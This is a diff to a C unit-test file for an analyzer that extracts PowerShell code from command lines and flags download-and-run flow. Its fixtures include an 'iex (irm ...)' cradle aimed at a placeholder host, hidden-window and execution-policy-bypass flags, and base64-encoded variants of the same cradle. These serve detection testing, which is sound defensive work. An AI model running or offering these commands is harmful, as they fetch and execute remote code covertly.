@@ -2,6 +2,7 @@
 #include "read/js_case.h"
 
 #include "read/script.h"
+#include "read/shell_command.h"
 #include "util/buf.h"
 
 static struct js_case *ps_run(const char *text)
@@ -152,6 +153,33 @@ static void stays_and_weakens(void **state)
 	(void)state;
 }
 
+/* What a command line hands to PowerShell. */
+static void code_in_commands(void **state)
+{
+	static const struct {
+		const char *command, *code;
+	} rows[] = {
+		{"powershell -c \"iex (irm https://a.example/x)\"", "iex (irm https://a.example/x)"},
+		{"powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -Command & { a }", "& { a }"},
+		{"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ep bypass Get-Item x", "Get-Item x"},
+		{"pwsh -File x.ps1", ""}, {"powershell .\\x.ps1 -a b", ""},
+		{"powershell -enc RwBlAHQALQBJAHQAZQBtACAAeAA=", "Get-Item x"},
+	};
+	struct arena a;
+
+	arena_init(&a, 0);
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		struct str s = command_powershell(&a, str_of(rows[i].command));
+
+		if (!str_is(s, rows[i].code))
+			fail_msg("%s: \"%.*s\"", rows[i].command, STR_ARG(s));
+	}
+	arena_release(&a);
+	says("Start-Process powershell -ArgumentList '-w hidden -c \"iex (irm https://a.example/x)\"'", FACT_FLOW, "net>code", NULL);
+	says("cmd /c powershell -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AeAApAA==", FACT_FLOW, "net>code", NULL);
+	(void)state;
+}
+
 static void ordinary(void **state)
 {
 	says_no_flow("param([string]$Path)\nfunction Get-Thing { param($x) Get-ChildItem $x | Where-Object { $_.Length -gt 1 } | Sort-Object Name }\nGet-Thing -x $Path | Out-File list.txt");
@@ -198,7 +226,8 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test_setup(words_without_ticks, reset), cmocka_unit_test_setup(downloads_that_run, reset), cmocka_unit_test_setup(files_that_run, reset),
-		cmocka_unit_test_setup(what_goes_out, reset), cmocka_unit_test_setup(decoded, reset), cmocka_unit_test_setup(stays_and_weakens, reset), cmocka_unit_test_setup(ordinary, reset),
+		cmocka_unit_test_setup(what_goes_out, reset), cmocka_unit_test_setup(decoded, reset), cmocka_unit_test_setup(stays_and_weakens, reset), cmocka_unit_test_setup(code_in_commands, reset),
+		cmocka_unit_test_setup(ordinary, reset),
 		cmocka_unit_test_setup(unharmed, reset),
 	};
 
